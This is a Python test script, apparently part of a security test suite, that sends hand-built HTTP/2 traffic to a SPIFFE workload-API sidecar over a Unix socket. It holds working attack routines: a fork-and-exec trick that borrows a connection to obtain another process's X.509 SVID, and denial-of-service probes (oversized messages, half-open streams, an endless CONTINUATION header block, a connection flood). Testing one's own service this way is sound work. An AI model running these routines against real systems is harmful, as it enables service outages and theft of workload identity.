"""Raw HTTP/2 over the sidecar's Unix socket, for what no well-behaved gRPC client does. Prints JSON lines.

  borrow SOCKET EXE     connect, wait for the server's SETTINGS, fork; the connecting process execs EXE
                        while its child sends FetchX509SVID on the inherited connection (finding 8)
  oversize SOCKET BYTES  one call announcing a request of BYTES, sending as much of it as the sidecar lets in
  halfopen SOCKET N     N calls that send headers and never their request; each call's status and message
  headers SOCKET BYTES  a header block that never ends: HEADERS, then CONTINUATION frames to BYTES; was it cut off?
  flood SOCKET SECONDS  for SECONDS: idle connections, half-open streams and oversized messages (see flood);
                        reports what it sent, then exits
"""

from __future__ import annotations

import json
import os
import socket
import struct
import sys
import threading
import time
from pathlib import Path

import h2.config
import h2.connection
import h2.events
import h2.exceptions

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

FETCH = "/SpiffeWorkloadAPI/FetchX509SVID"


def out(obj) -> None:
    print(json.dumps(obj), flush=True)


def request_headers(path: str = FETCH) -> list[tuple[str, str]]:
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"),
            ("content-type", "application/grpc"), ("te", "trailers"), ("workload.spiffe.io", "true")]


def frame(message: bytes, length: int | None = None) -> bytes:
    """One gRPC message: flag, 4-byte length (as given, or the real one), bytes."""
    return struct.pack(">?I", False, len(message) if length is None else length) + message


class Conn:
    def __init__(self, path: str, timeout: float = 10.0):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(timeout)
        self.sock.connect(path)
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.h2.initiate_connection()
        self.flush()

    def flush(self) -> None:
        data = self.h2.data_to_send()
        if data:
            self.sock.sendall(data)

    def events(self) -> list:
        data = self.sock.recv(65536)
        if not data:
            raise ConnectionError("closed by the sidecar")
        evs = self.h2.receive_data(data)
        self.flush()
        return evs

    def wait_settings(self) -> None:
        while not any(isinstance(e, h2.events.RemoteSettingsChanged) for e in self.events()):
            pass

    def call(self, path: str, body: bytes) -> dict:
        """A unary-request call; the status, message and response messages."""
        sid = self.h2.get_next_available_stream_id()
        self.h2.send_headers(sid, request_headers(path))
        self.h2.send_data(sid, frame(body), end_stream=True)
        self.flush()
        data, headers = b"", {}
        while True:
            for e in self.events():
                if isinstance(e, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                    headers.update(dict(e.headers))
                elif isinstance(e, h2.events.DataReceived):
                    data += e.data
                    self.h2.acknowledge_received_data(e.flow_controlled_length, sid)
                    # A stream sends its first state and waits: one whole message is the answer.
                    if len(data) >= 5 and len(data) >= 5 + struct.unpack(">I", data[1:5])[0]:
                        return {"status": 0, "messages": [data[5:]]}
                elif isinstance(e, (h2.events.StreamEnded, h2.events.StreamReset)):
                    return {"status": int(headers.get("grpc-status", -1)), "message": headers.get("grpc-message", ""),
                            "messages": []}


def borrow(path: str, exe: str) -> None:
    conn = Conn(path)
    conn.wait_settings()  # the sidecar has accepted this connection
    if os.fork() != 0:
        os.execv(exe, [exe, "5"])  # the connecting process becomes EXE; the socket lives on in the child
    parent = os.getppid()
    deadline = time.monotonic() + 5
    while os.readlink(f"/proc/{parent}/exe") != os.path.realpath(exe):
        if time.monotonic() > deadline:
            out({"event": "error", "error": "the parent did not exec"})
            os._exit(1)
        time.sleep(0.005)
    from tessera.workload import workload_pb2

    result = conn.call(FETCH, b"")
    if result["status"] == 0:
        resp = workload_pb2.X509SVIDResponse.FromString(result["messages"][0])
        out({"event": "svid", "spiffe_ids": [s.spiffe_id for s in resp.svids]})
    else:
        out({"event": "error", "status": result["status"], "message": result["message"]})
    os._exit(0)


def send_oversized(conn: Conn, size: int, deadline: float, cap: int | None = None) -> dict:
    """One call announcing a request of `size` bytes; sends as much of it (up to `cap`) as the sidecar lets in."""
    sid = conn.h2.get_next_available_stream_id()
    conn.h2.send_headers(sid, request_headers())
    conn.h2.send_data(sid, frame(b"", size))
    sent, headers = 0, {}
    ended = False
    while not ended and time.monotonic() < deadline:
        room = min(conn.h2.local_flow_control_window(sid), conn.h2.max_outbound_frame_size,
                   (size if cap is None else cap) - sent)
        if room > 0:
            try:
                conn.h2.send_data(sid, b"\0" * room, end_stream=sent + room == size)
                sent += room
                conn.flush()
                continue
            except h2.exceptions.StreamClosedError:
                pass  # refused meanwhile: read why
            except OSError:
                break  # closed, or not read for the socket's timeout
        try:
            evs = conn.events()
        except (ConnectionError, OSError):
            break
        for e in evs:
            if isinstance(e, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                headers.update(dict(e.headers))
            elif isinstance(e, (h2.events.StreamEnded, h2.events.StreamReset)):
                ended = True
    return {"sent": sent, "status": int(headers.get("grpc-status", -1)), "message": headers.get("grpc-message", "")}


def halfopen(path: str, n: int) -> None:
    conn = Conn(path, timeout=30)
    conn.wait_settings()
    sids = []
    for _ in range(n):
        sid = conn.h2.get_next_available_stream_id()
        conn.h2.send_headers(sid, request_headers())
        sids.append(sid)
    conn.flush()
    headers: dict[int, dict] = {sid: {} for sid in sids}
    ended: set[int] = set()
    while len(ended) < n:
        for e in conn.events():
            if isinstance(e, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                headers[e.stream_id].update(dict(e.headers))
            elif isinstance(e, (h2.events.StreamEnded, h2.events.StreamReset)):
                ended.add(e.stream_id)
    out({"statuses": [int(headers[s].get("grpc-status", -1)) for s in sids],
         "messages": [headers[s].get("grpc-message", "") for s in sids]})


def endless_headers(path: str, size: int) -> None:
    from hyperframe.frame import ContinuationFrame, HeadersFrame

    conn = Conn(path)
    conn.wait_settings()
    block = conn.h2.encoder.encode(request_headers())
    first = HeadersFrame(1, data=block)  # no END_HEADERS: CONTINUATION frames must follow
    conn.sock.sendall(first.serialize())
    sent, closed = len(block), False
    try:
        while sent < size:
            chunk = min(16384, size - sent)
            conn.sock.sendall(ContinuationFrame(1, data=b"\0" * chunk).serialize())
            sent += chunk
        conn.sock.settimeout(3)
        while conn.sock.recv(65536):
            pass
        closed = True
    except (ConnectionError, OSError) as e:
        closed = not isinstance(e, TimeoutError)
    out({"sent": sent, "closed": closed})


def flood(path: str, seconds: float) -> None:
    """Hold as much of the sidecar as one uid can for `seconds`: up to 400 connections, every other one
    with 99 calls that never send their request (within HTTP/2's usual 100 streams), the rest idle,
    and 4 more connections each sending a request announced as 1 GiB, up to 64 MiB of it."""
    deadline = time.monotonic() + seconds
    big: list[int] = []
    senders = [threading.Thread(target=lambda: big.append(send_oversized(Conn(path, timeout=2), 1 << 30, deadline,
                                                                         64 << 20)["sent"]), daemon=True)
               for _ in range(4)]
    for t in senders:
        t.start()
    conns: list[Conn] = []
    refused = 0
    for _ in range(400):
        if time.monotonic() > deadline - seconds / 2:
            break
        try:
            conns.append(Conn(path, timeout=2))
        except OSError:
            refused += 1
    streams = 0
    for c in conns[::2]:
        try:
            for _ in range(99):
                c.h2.send_headers(c.h2.get_next_available_stream_id(), request_headers())
                streams += 1
            c.flush()
        except Exception:  # noqa: BLE001 - the sidecar closed it or refused more streams: that is the point
            pass
    while time.monotonic() < deadline:
        time.sleep(0.1)
    for t in senders:
        t.join(5)
    out({"event": "flooded", "connections": len(conns), "refused_connections": refused, "streams_sent": streams,
         "oversized_bytes_sent": sum(big)})


def main() -> int:
    mode, path = sys.argv[1], sys.argv[2]
    if mode == "borrow":
        borrow(path, sys.argv[3])
    elif mode == "oversize":
        out(send_oversized(Conn(path), int(sys.argv[3]), time.monotonic() + 30))
    elif mode == "halfopen":
        halfopen(path, int(sys.argv[3]))
    elif mode == "headers":
        endless_headers(path, int(sys.argv[3]))
    elif mode == "flood":
        flood(path, float(sys.argv[3]))
    return 0


if __name__ == "__main__":
    sys.exit(main())
